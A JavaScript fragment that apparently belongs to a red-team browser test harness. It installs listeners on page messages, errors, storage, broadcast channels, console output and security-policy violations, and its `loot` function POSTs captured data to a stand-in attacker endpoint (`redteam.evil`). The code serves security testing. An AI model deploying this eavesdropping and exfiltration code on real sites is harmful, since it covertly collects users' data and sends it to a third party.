// What any script of the page could keep an eye on without breaking anything: kept in `redteam.heard`, where the collector
// finds it among the globals. Runs before the attacker's own script and before the application.
{
  const { redteam } = globalThis;
  redteam.heard = [];
  redteam.looted = [];
  const hear = (value) => void (redteam.heard.length < 2000 && redteam.heard.push(value));
  const { fetch } = globalThis;
  /** How much of it is still on its way home. */
  redteam.onWay = 0;
  const arrived = () => void (redteam.onWay -= 1);

  /** Sends home what was taken. */
  redteam.loot = (value) => {
    let text;
    try {
      text = typeof value === "string" ? value : (JSON.stringify(value) ?? String(value));
    } catch {
      text = String(value);
    }
    redteam.looted.push(text);
    redteam.onWay += 1;
    fetch
      .call(globalThis, `${redteam.evil}/loot`, {
        method: "POST",
        mode: "no-cors",
        body: text.slice(0, 50_000),
      })
      .then(arrived, arrived);
  };

  const deep = { capture: true };
  addEventListener("message", ({ data, origin, ports }) => hear([origin, data, ports.length]), deep);
  addEventListener("error", ({ message, error }) => hear([message, error?.stack]), deep);
  addEventListener("unhandledrejection", ({ reason }) => hear([String(reason), reason?.stack, reason]), deep);
  addEventListener("storage", ({ key, newValue }) => hear([key, newValue]), deep);
  const refused = new Set();
  addEventListener(
    "securitypolicyviolation",
    ({ blockedURI, sample, effectiveDirective }) => {
      refused.add(effectiveDirective);
      hear([blockedURI, sample]);
    },
    deep,
  );
  /** The directives of the page's policy that have refused something. */
  redteam.refused = () => [...refused];

  for (const name of redteam.channels ?? [])
    new BroadcastChannel(name).onmessage = ({ data }) => hear([name, data]);
  for (const name of ["debug", "error", "info", "log", "trace", "warn"]) {
    const own = console[name];
    console[name] = (...values) => {
      hear(values.map(String));
      own.apply(console, values);
    };
  }
  if (typeof PerformanceObserver === "function") {
    new PerformanceObserver((list) =>
      list.getEntries().forEach((entry) => hear(JSON.stringify(entry))),
    ).observe({
      type: "resource",
      buffered: true,
    });
  }
  if (typeof ReportingObserver === "function") {
    new ReportingObserver((reports) => reports.forEach((report) => hear(JSON.stringify(report)))).observe();
  }
}
